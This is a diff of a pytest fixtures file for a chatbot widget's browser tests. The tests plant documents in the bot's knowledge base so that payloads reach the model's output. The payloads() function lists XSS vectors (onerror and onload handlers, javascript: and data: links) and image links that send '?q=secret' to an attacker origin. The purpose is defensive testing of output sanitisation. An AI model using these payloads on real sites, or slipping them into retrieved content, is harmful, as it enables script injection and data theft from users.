@@ -1,6 +1,7 @@
 """Browser fixtures: Debian's chromium through Playwright, customer sites served from other
 ports, the real server, and the scripted OpenAI-compatible model (the one thing we don't own)
 whose answers the tests choose — that is how payloads get "into the model's output"."""
+
 from __future__ import annotations
 
 import struct
@@ -20,11 +21,18 @@ from tests.scripted_openai import Reply, ScriptedOpenAI
 ROOT = Path(__file__).resolve().parents[2]
 ARTIFACTS = ROOT / "test-artifacts" / "widget"
 CHROMIUM = "/usr/bin/chromium"
-CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync", "--no-first-run"]
+CHROMIUM_ARGS = [
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--no-first-run",
+]
 
 
 # ---------- customer sites ----------
+
 
 class Site:
     """A static site on its own port; pages are set by the test. Also records every request
@@ -76,6 +84,7 @@ def attacker():
 
 # ---------- the scripted model ----------
 
+
 class _PausingChunks:
     """Answer chunks that stop halfway until the gate opens: the scripted server writes
     them one by one, so the browser sees half an answer for as long as the test wants."""
@@ -114,9 +123,9 @@ class ScriptedModel(ScriptedOpenAI):
         with self._lock:
             self.requests.append(body)
         text = self.reply_for(body.get("messages") or [])
-        chunks = [text[i:i + 8] for i in range(0, len(text), 8)]
+        chunks = [text[i : i + 8] for i in range(0, len(text), 8)]
         if self.cut_on and self.cut_on in text:
-            return Reply.stream(chunks[:len(chunks) // 2], cut=True)
+            return Reply.stream(chunks[: len(chunks) // 2], cut=True)
         if self.pause_on and self.pause_on in text:
             return Reply.stream(_PausingChunks(chunks, self.gate))
         return Reply.stream(chunks)
@@ -132,11 +141,13 @@ def scripted_model():
 
 # ---------- chromium ----------
 
+
 @pytest.fixture(scope="session")
 def browser():
     if not Path(CHROMIUM).exists():
         pytest.fail("Debian's chromium is missing at /usr/bin/chromium: run `make system-deps`.")
     from playwright.sync_api import sync_playwright
+
     with sync_playwright() as p:
         b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
         yield b
@@ -151,15 +162,22 @@ def artifacts() -> Path:
 
 def tiny_png(width: int = 96, height: int = 32) -> bytes:
     """A small real PNG (solid green), so the browser decodes it and reports its size."""
+
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
     rows = b"".join(b"\x00" + b"\x00\xa0\x40" * width for _ in range(height))
-    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
-            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))
+    return (
+        b"\x89PNG\r\n\x1a\n"
+        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
+        + chunk(b"IDAT", zlib.compress(rows))
+        + chunk(b"IEND", b"")
+    )
 
 
-def embed_page(server_url: str, bot_id: str, key: str, extra_head: str = "", title: str = "Acme shop",
-               script_attrs: str = "") -> str:
+def embed_page(
+    server_url: str, bot_id: str, key: str, extra_head: str = "", title: str = "Acme shop", script_attrs: str = ""
+) -> str:
     return f"""<!doctype html><html><head><meta charset="utf-8">
 <meta name="viewport" content="width=device-width, initial-scale=1"><title>{title}</title>{extra_head}</head>
 <body><h1>{title}</h1><p>Welcome to our shop. <a href="/other">Another page</a></p>
@@ -184,23 +202,27 @@ def help_centre(payload: str) -> dict[str, str]:
             "(https://shop.example/returns). To return an item, open My orders, click Return, print the "
             "label and drop the parcel off at any post office. Refunds for returned items arrive within 5 "
             "days. Questions to help@shop.example.\n\nShipping\n\nStandard shipping takes 3 to 5 working days; "
-            "express shipping takes 1 day.\n"),
+            "express shipping takes 1 day.\n"
+        ),
         # Payload first: citation snippets are the start of a chunk.
         "warranty.txt": (
             f"Warranty {payload}\n\nWhat the warranty covers: the Acme warranty covers manufacturing defects "
             "for 2 years after purchase. The warranty does not cover accidental damage. To use the warranty, "
-            "contact support with your order number.\n"),
+            "contact support with your order number.\n"
+        ),
     }
 
 
 def payloads(attacker_origin: str) -> str:
-    return ('<img src=x onerror="window.__pwned=\'img\'"> '
-            f"![x]({attacker_origin}/leak?q=secret) "
-            '<svg onload="window.__pwned=\'svg\'"></svg> '
-            "[click me](javascript:window.__pwned='js') [tab](java\tscript:window.__pwned='tab') "
-            "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
-            f"<img src=\"{attacker_origin}/leak2?q=secret\"> "
-            f"[leak]({attacker_origin}/clicked)")
+    return (
+        "<img src=x onerror=\"window.__pwned='img'\"> "
+        f"![x]({attacker_origin}/leak?q=secret) "
+        "<svg onload=\"window.__pwned='svg'\"></svg> "
+        "[click me](javascript:window.__pwned='js') [tab](java\tscript:window.__pwned='tab') "
+        "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) "
+        f'<img src="{attacker_origin}/leak2?q=secret"> '
+        f"[leak]({attacker_origin}/clicked)"
+    )
 
 
 def bot_spec(model_url: str, origins: list[str], language: str) -> dict:
@@ -225,13 +247,17 @@ class Deployment:
     origins: list[str] = field(default_factory=list)
     messages_allowed: int = QUESTIONS_PER_MINUTE
 
-    def publish_bot(self, name: str, spec: dict, language: str, documents: dict[str, str] | None = None) -> tuple[str, str]:
+    def publish_bot(
+        self, name: str, spec: dict, language: str, documents: dict[str, str] | None = None
+    ) -> tuple[str, str]:
         bot = self.admin.post("/admin/bots", json={"name": name, "language": language, "spec": spec})
         assert bot.status_code == 201, bot.text
         bot_id = bot.json()["id"]
         if documents:
-            job = self.admin.post(f"/admin/bots/{bot_id}/documents", files=[
-                ("files", (name, text.encode(), "text/plain")) for name, text in documents.items()])
+            job = self.admin.post(
+                f"/admin/bots/{bot_id}/documents",
+                files=[("files", (name, text.encode(), "text/plain")) for name, text in documents.items()],
+            )
             assert job.status_code == 202, job.text
             self.wait_job(job.json()["job_id"])
         published = self.admin.post(f"/admin/bots/{bot_id}/versions", json={})
@@ -260,21 +286,23 @@ class Deployment:
 SERVER_ENV = {
     "PROMPTEUR_RATE_PER_SESSION": str(QUESTIONS_PER_MINUTE),
     "PROMPTEUR_RATE_PER_IP": "100000",  # every browser in these tests is 127.0.0.1
-    "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1", "ANONYMIZED_TELEMETRY": "False",
+    "HF_HUB_OFFLINE": "1",
+    "TRANSFORMERS_OFFLINE": "1",
+    "ANONYMIZED_TELEMETRY": "False",
 }
 
 
 def start_deployment(home: Path, site: Site, attacker: Site, model: ScriptedModel) -> tuple[LiveServer, Deployment]:
     """A real server (uvicorn, its own PROMPTEUR_HOME) with the Acme bot published and keyed."""
     server = LiveServer(home, extra_env=SERVER_ENV).start()
-    admin = httpx.Client(base_url=server.url, timeout=120,
-                         headers={"Authorization": f"Bearer {server.admin_token}"})
+    admin = httpx.Client(base_url=server.url, timeout=120, headers={"Authorization": f"Bearer {server.admin_token}"})
     d = Deployment(url=server.url, admin=admin)
     # The shareable hosted page is served by the Prompteur server itself, so it only works
     # for bots that allow the server's own origin: opt-in, because the pk_ key is public.
     d.origins = [site.origin, server.url]
-    d.bot_id, d.key = d.publish_bot("Acme Help", bot_spec(model.base_url, d.origins, "en"), "en",
-                                    documents=help_centre(payloads(attacker.origin)))
+    d.bot_id, d.key = d.publish_bot(
+        "Acme Help", bot_spec(model.base_url, d.origins, "en"), "en", documents=help_centre(payloads(attacker.origin))
+    )
     return server, d
 
 
